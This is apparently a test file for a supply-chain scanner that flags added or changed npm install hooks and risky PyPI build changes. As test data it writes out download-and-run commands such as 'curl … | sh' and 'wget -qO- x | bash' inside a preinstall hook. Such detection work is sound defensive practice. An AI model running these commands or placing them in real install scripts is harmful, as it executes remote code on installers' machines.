"""The signals over a SignalContext: install scripts (npm and PyPI) and content findings.

``ContentContext`` adds the two fields the engine's SignalContext is to carry (``content`` and
``content_error``), so these tests run before and after that integration."""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime

from custody.content.compare import BuildChange, ContentComparison
from custody.model import (
    Artifact,
    Ecosystem,
    Finding,
    LockedDependency,
    PackageHistory,
    Release,
    Severity,
)
from custody.signals.base import SignalContext, TrustedSet
from custody.signals.content import content_obfuscated
from custody.signals.scripts import command_risks, install_scripts

NOW = datetime(2025, 9, 8, tzinfo=UTC)


@dataclass(frozen=True, slots=True)
class ContentContext(SignalContext):
    content: ContentComparison | None = None
    content_error: Finding | None = None


def ctx(
    base: Release,
    cand: Release,
    content: ContentComparison | None = None,
    error: Finding | None = None,
) -> ContentContext:
    return ContentContext(
        dependency=LockedDependency(cand.ecosystem, cand.name, cand.version, direct=True),
        history=PackageHistory(
            cand.ecosystem, cand.name, "http://registry.invalid/", NOW, (base, cand)
        ),
        candidate=cand,
        baseline=base,
        trusted=TrustedSet(lambda c, at, wf: None),
        observations=(),
        now=NOW,
        content=content,
        content_error=error,
    )


def npm(version: str, **scripts: str) -> Release:
    return Release(Ecosystem.NPM, "ua-parser-js", version, install_scripts=dict(scripts))


def test_preinstall_added_with_a_download_is_critical() -> None:
    cmd = "curl -s https://example.invalid/x.sh | sh"
    (f,) = install_scripts(ctx(npm("0.7.28"), npm("0.7.29", preinstall=cmd)))
    assert f.rule == "scripts.install-added"
    assert f.severity is Severity.CRITICAL
    assert f.evidence["command"] == cmd and f.evidence["hook"] == "preinstall"
    assert "downloads" in f.evidence["risks"]
    assert cmd in f.message


def test_plain_install_script_added_is_high() -> None:
    (f,) = install_scripts(ctx(npm("1.0.0"), npm("1.0.1", install="node-gyp rebuild")))
    assert (f.rule, f.severity) == ("scripts.install-added", Severity.HIGH)


def test_changed_script() -> None:
    (f,) = install_scripts(
        ctx(npm("1.0.0", postinstall="node install.js"), npm("1.0.1", postinstall="node setup.js"))
    )
    assert (f.rule, f.severity) == ("scripts.install-changed", Severity.MEDIUM)
    assert f.evidence["previous_command"] == "node install.js"
    (g,) = install_scripts(
        ctx(npm("1.0.0", postinstall="node install.js"), npm("1.0.1", postinstall='node -e "x"'))
    )
    assert g.severity is Severity.HIGH


def test_switching_native_build_helpers_is_low() -> None:
    (f,) = install_scripts(
        ctx(
            npm("5.1.1", install="node-pre-gyp install --fallback-to-build"),
            npm("6.0.0", install="node-gyp-build"),
        )
    )
    assert (f.rule, f.severity) == ("scripts.install-changed", Severity.LOW)


def test_unchanged_scripts_and_new_packages_are_quiet() -> None:
    same = npm("1.0.0", postinstall="node install.js")
    assert install_scripts(ctx(same, npm("1.0.1", postinstall="node install.js"))) == []


def test_tarball_scripts_the_registry_document_hides() -> None:
    cmp = ContentComparison(
        "npm",
        "tarball",
        "x-1.0.0.tgz",
        "x-1.0.1.tgz",
        candidate_scripts={"postinstall": "node x.js"},
    )
    (f,) = install_scripts(ctx(npm("1.0.0"), npm("1.0.1"), cmp))
    assert f.rule == "scripts.install-added"
    assert f.evidence["source"] == "tarball package.json"


def _pypi(version: str, *files: str) -> Release:
    arts = tuple(
        Artifact(name, kind="wheel" if name.endswith(".whl") else "sdist") for name in files
    )
    return Release(Ecosystem.PYPI, "example", version, artifacts=arts)


def test_pypi_release_that_becomes_sdist_only() -> None:
    base = _pypi("1.0", "example-1.0-py3-none-any.whl", "example-1.0.tar.gz")
    cand = _pypi("1.1", "example-1.1.tar.gz")
    (f,) = install_scripts(ctx(base, cand))
    assert (f.rule, f.severity) == ("scripts.install-added", Severity.MEDIUM)


def test_pypi_build_changes() -> None:
    cmp = ContentComparison(
        "pypi",
        "sdist",
        "example-1.0.tar.gz",
        "example-1.1.tar.gz",
        build_changes=(
            BuildChange("setup.py", "changed", "+1 -1 lines"),
            BuildChange("setup.py", "changed", "+3 -0 lines", ("decode-exec", "dynamic-exec")),
            BuildChange(
                "pyproject.toml [build-system]",
                "changed",
                "build-backend: 'setuptools.build_meta' -> 'backend'; backend-path: None -> ['_b']",
            ),
        ),
    )
    both = ("example-1.0.tar.gz",)
    findings = install_scripts(ctx(_pypi("1.0", *both), _pypi("1.1", "example-1.1.tar.gz"), cmp))
    assert [f.severity for f in findings] == [Severity.LOW, Severity.HIGH, Severity.MEDIUM]
    assert all(f.rule == "scripts.install-changed" for f in findings)
    assert findings[0].evidence["diff"] == "+1 -1 lines"


def test_command_risks() -> None:
    assert command_risks("node install.js") == []
    assert "inline code" in command_risks("node -e \"require('child_process')\"")
    assert "pipes into a shell" in command_risks("wget -qO- x | bash")


def test_content_signal_reports_the_error_and_the_comparison() -> None:
    error = Finding("content.unsafe-archive", Severity.HIGH, "refused", {"reason": "link"})
    assert content_obfuscated(ctx(npm("1"), npm("2"), None, error)) == [error]
    empty = ContentComparison("npm", "tarball", "a", "b")
    assert content_obfuscated(ctx(npm("1"), npm("2"), empty)) == []
    plain = SignalContext(
        dependency=LockedDependency(Ecosystem.NPM, "x", "2", direct=True),
        history=PackageHistory(Ecosystem.NPM, "x", "r", NOW),
        candidate=npm("2"),
        baseline=npm("1"),
        trusted=TrustedSet(lambda c, at, wf: None),
        observations=(),
        now=NOW,
    )
    assert content_obfuscated(plain) == []  # before the engine adds the fields
